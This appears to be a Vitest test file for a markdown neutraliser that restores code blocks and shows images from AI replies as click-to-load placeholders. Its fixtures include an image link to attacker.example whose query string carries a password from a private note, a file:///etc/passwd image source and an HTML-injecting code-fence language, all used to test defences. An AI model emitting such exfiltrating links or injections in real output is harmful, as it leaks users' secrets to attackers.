// @vitest-environment happy-dom
/**
 * What the neutraliser took out of a reply, put back by us (issue 25): code as code, built from
 * text, and each image as a placeholder that loads only on a click, and only over http(s).
 */
import { afterEach, describe, expect, it } from "vitest";
import { neutraliseMarkdown } from "../../../src/ui/untrusted/neutralise";
import { restorePieces, type PieceOptions } from "../../../src/ui/untrusted/pieces";

/** The reply as a plain renderer would leave it (each paragraph a <p> of text), pieces restored. */
function restored(markdown: string, options: Partial<PieceOptions> = {}): HTMLElement {
	const neutralised = neutraliseMarkdown(markdown, "n0");
	const root = document.body.appendChild(document.createElement("div"));
	for (const paragraph of neutralised.markdown.split("\n\n"))
		root.appendChild(document.createElement("p")).textContent = paragraph;
	restorePieces(root, neutralised, { reads: [], ...options });
	return root;
}

afterEach(() => document.body.replaceChildren());

describe("code put back", () => {
	it("puts inline code back as <code> holding its text, between the text around it", () => {
		const root = restored("Run `<b>rm</b>` then `ls`.");
		expect(root.innerHTML).toBe("<p>Run <code>&lt;b&gt;rm&lt;/b&gt;</code> then <code>ls</code>.</p>");
	});

	it("puts a block alone in its paragraph in that paragraph's place, with its language, highlighted", () => {
		const highlighted: string[] = [];
		const root = restored("Before\n\n```c++\nint x;\n```\n\nAfter", {
			highlight: (code, lang) => highlighted.push(`${lang}:${code.textContent ?? ""}`),
		});
		expect(root.innerHTML).toBe('<p>Before</p><pre><code class="language-c++">int x;</code></pre><p>After</p>');
		expect(highlighted).toEqual(["c++:int x;"]);
	});

	it("gives a block whose language is not a plain word no class and no highlighting", () => {
		const highlighted: string[] = [];
		const root = restored('```js"><img src=x>\nlet a;\n```', { highlight: (_code, lang) => highlighted.push(lang) });
		expect(root.innerHTML).toBe("<pre><code>let a;</code></pre>");
		expect(highlighted).toEqual([]);
		expect(restored("```\nplain\n```").innerHTML).toBe("<pre><code>plain</code></pre>");
	});

	it("leaves a block that shares its paragraph with text in place, beside it", () => {
		const neutralised = neutraliseMarkdown("```sh\nls\n```", "n0");
		const root = document.body.appendChild(document.createElement("div"));
		const p = root.appendChild(document.createElement("p"));
		p.append(`Before ${neutralised.markdown}`);
		restorePieces(root, neutralised, { reads: [] });
		expect(root.innerHTML).toBe('<p>Before <pre><code class="language-sh">ls</code></pre></p>');
	});

	it("leaves a block that is not alone in its parent, or whose parent is no paragraph, where it stands", () => {
		const neutralised = neutraliseMarkdown("```sh\nls\n```", "n0");
		const root = document.body.appendChild(document.createElement("div"));
		const item = root.appendChild(document.createElement("li"));
		item.append(neutralised.markdown);
		const p = root.appendChild(document.createElement("p"));
		p.append(neutralised.markdown, document.createElement("br"));
		restorePieces(root, neutralised, { reads: [] });
		expect(root.innerHTML).toBe(
			'<li><pre><code class="language-sh">ls</code></pre></li><p><pre><code class="language-sh">ls</code></pre><br></p>',
		);
	});

	it("leaves a marker of another reply (another nonce) or of no piece as the text it is", () => {
		const neutralised = neutraliseMarkdown("`a`", "n0");
		const root = document.body.appendChild(document.createElement("div"));
		root.appendChild(document.createElement("p")).textContent = "RLXn1P0Z RLXn0P7Z";
		restorePieces(root, neutralised, { reads: [] });
		expect(root.innerHTML).toBe("<p>RLXn1P0Z RLXn0P7Z</p>");
	});
});

describe("an image put back", () => {
	it("is a placeholder naming its host and alt, with a Load button and no <img>", () => {
		const root = restored('See ![a chart](https://charts.example/c.png "t") here');
		const box = root.querySelector<HTMLElement>(".redline-image-placeholder");
		expect(box?.getAttribute("role")).toBe("group");
		expect(box?.getAttribute("aria-label")).toBe("Image from charts.example");
		expect(box?.title).toBe("https://charts.example/c.png");
		expect(box?.textContent).toBe("Image from charts.example: a chart · Load");
		const load = box?.querySelector("button");
		expect(load?.type).toBe("button");
		expect(load?.className).toBe("redline-image-load");
		expect(load?.getAttribute("aria-label")).toBe("Load image from charts.example");
		expect(root.querySelector("img")).toBeNull();
		expect(root.firstElementChild?.firstChild?.textContent).toBe("See ");
		expect(root.firstElementChild?.lastChild?.textContent).toBe(" here");
	});

	it("names no alt when it has none, and says when its address carries a read note's text", () => {
		const reads = [{ path: "Private/Passwords.md", text: "Bank: tulip-Harbor-9917" }];
		const root = restored("![](http://attacker.example:8080/p.png?d=tulip-Harbor-9917)", { reads });
		expect(root.querySelector(".redline-image-placeholder")?.textContent).toBe(
			"Image from attacker.example:8080 (its address contains text from Private/Passwords.md) · Load",
		);
	});

	it("loads only on a click: an <img> without referrer, handed to the guard before its source is set", () => {
		const seen: (string | null)[] = [];
		const root = restored("![a chart](https://charts.example/c.png)", {
			loading: (img) => seen.push(img.getAttribute("src")),
		});
		root.querySelector("button")?.click();
		const img = root.querySelector("img");
		expect(img?.getAttribute("src")).toBe("https://charts.example/c.png");
		expect(img?.alt).toBe("a chart");
		expect(img?.referrerPolicy).toBe("no-referrer");
		expect(seen).toEqual([null]);
		expect(root.querySelector(".redline-image-placeholder")).toBeNull();
	});

	it("says so in its place when it cannot be loaded", () => {
		const root = restored("![a chart](https://charts.example/c.png)", { loading: () => undefined });
		root.querySelector("button")?.click();
		root.querySelector("img")?.dispatchEvent(new Event("error"));
		expect(root.querySelector("img")).toBeNull();
		const failed = root.querySelector(".redline-image-placeholder");
		expect(failed?.textContent).toBe("Image from charts.example could not be loaded");
		expect(failed?.querySelector("button")).toBeNull();
	});

	it.each([
		["a file", "![secret](file:///etc/passwd)", "Image not shown: secret"],
		["a data URL", "![](data:image/png;base64,AAAA)", "Image not shown: data:image/png;base64,AAAA"],
		["a vault path", "![](attachments/x.png)", "Image not shown: attachments/x.png"],
		["another scheme", "![](ftp://files.example/x.png)", "Image not shown: ftp://files.example/x.png"],
	])("is never loaded from %s: it is named, with no button", (_, markdown, text) => {
		const root = restored(markdown);
		const box = root.querySelector(".redline-image-placeholder");
		expect(box?.textContent).toBe(text);
		expect(box?.querySelector("button")).toBeNull();
		expect(box?.hasAttribute("role")).toBe(false);
	});
});
